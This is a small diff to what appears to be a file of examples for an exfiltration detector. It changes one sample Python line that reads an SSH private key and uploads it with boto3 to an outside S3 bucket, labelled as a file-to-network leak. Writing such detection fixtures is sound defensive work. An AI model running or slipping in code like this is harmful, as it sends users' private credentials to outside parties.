@@ -192,7 +192,7 @@ export const inPython: DetectorExamples = {
       code: [
         'import boto3',
         "client = boto3.client('s3')",
-        "client.put_object(Bucket='taken', Key='x', Body=open('/root/.ssh/id_rsa').read())",
+        "client.put_object(Bucket='taken', Key='x', Body=open('/home/ada/.ssh/id_rsa').read())",
       ].join('\n'),
       why: 'into a bucket',
       attributes: { source: 'file:ssh', sink: 'network.body', to: 'bucket:taken' },
